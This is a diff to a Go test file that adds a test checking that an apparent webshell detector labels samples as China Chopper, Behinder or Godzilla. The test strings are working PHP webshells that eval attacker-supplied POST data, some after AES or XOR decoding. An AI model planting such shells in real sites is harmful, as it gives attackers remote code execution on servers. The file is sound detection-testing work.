@@ -132,6 +132,27 @@ func TestBenign(t *testing.T) {
 	}
 }
 
+// TestFamilies checks that families are named from their traits.
+func TestFamilies(t *testing.T) {
+	cases := map[string]string{
+		`<?php @eval($_POST['pass']);?>`: "China Chopper / AntSword",
+		`<?php @session_start(); $key = "e45e329feb5d925b"; $_SESSION['k'] = $key; $post = file_get_contents("php://input");
+		$post = openssl_decrypt($post, "AES128", $key); $arr = explode('|', $post); $func = $arr[0]; $params = $arr[1];
+		class C { public function __invoke($p) { eval($p . ""); } } @call_user_func(new C(), $params);`: "Behinder",
+		`<?php $pass = 'pass'; $payloadName = 'payload'; $key = '3c6e0b8a9c15224a';
+		function encode($D, $K) { for ($i = 0; $i < strlen($D); $i++) { $D[$i] = $D[$i] ^ $K[$i + 1 & 15]; } return $D; }
+		if (isset($_POST[$pass])) { $data = encode(base64_decode($_POST[$pass]), $key);
+		if (isset($_SESSION[$payloadName])) { $payload = encode($_SESSION[$payloadName], $key); eval($payload);
+		echo substr(md5($pass . $key), 0, 16); } else { $_SESSION[$payloadName] = $data; } }`: "Godzilla",
+	}
+	for src, want := range cases {
+		ds := Analyze([]byte(src))
+		if len(ds) == 0 || ds[0].Family != want {
+			t.Errorf("family of %.60q: got %+v, want %s", src, ds, want)
+		}
+	}
+}
+
 // TestExplanation checks that a detection names its source, its decoding
 // steps and its sink with the right lines.
 func TestExplanation(t *testing.T) {
